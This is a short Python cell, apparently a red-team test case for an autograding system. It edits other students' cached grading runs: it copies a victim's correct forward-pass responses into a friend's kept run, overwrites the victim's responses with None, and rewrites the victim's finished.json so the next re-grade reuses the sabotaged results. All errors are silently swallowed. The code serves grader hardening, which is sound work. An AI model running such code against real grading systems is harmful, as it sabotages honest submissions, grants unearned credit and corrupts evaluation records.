# Red-team attack 07 (issue 7): edit other students' kept runs so the next re-grade reuses them.
# A grading run keeps each submission's run in `<work dir>/<student>/` (finished.json beside
# scratch/ with the probe responses) and the next run judges it again without running it. This
# cell finds the others beside its own scratch folder: it copies the victim's (correct) forward
# responses into its friend's kept run, then answers `None` in every forward response of the
# victim and rewrites the victim's finished.json (same fingerprint, so it is still reused).

VICTIM = "correct_source_solution"
FRIEND = "forward_no_bias"


def _edit_kept_runs():
    import json
    import os
    from pathlib import Path

    work_dir = Path(os.getcwd()).resolve().parent.parent
    victim, friend = work_dir / VICTIM, work_dir / FRIEND
    originals = {path.name: path.read_bytes()
                 for path in (victim / "scratch" / "forward").glob("*.json")}
    for name, data in originals.items():
        if name not in ("section.json", "ended.json"):
            try:
                (friend / "scratch" / "forward" / name).write_bytes(data)
            except Exception:
                pass
    nothing = {"type": "NoneType"}
    for name in originals:
        if name not in ("section.json", "ended.json"):
            try:
                (victim / "scratch" / "forward" / name).write_text(json.dumps(
                    {"output": nothing, "grad_w": nothing, "grad_b": nothing}))
            except Exception:
                pass
    try:
        record = json.loads((victim / "finished.json").read_text())
        record["seconds"] = 0.5
        (victim / "finished.json").write_text(json.dumps(record))
    except Exception:
        pass


try:
    _edit_kept_runs()
except Exception:
    pass
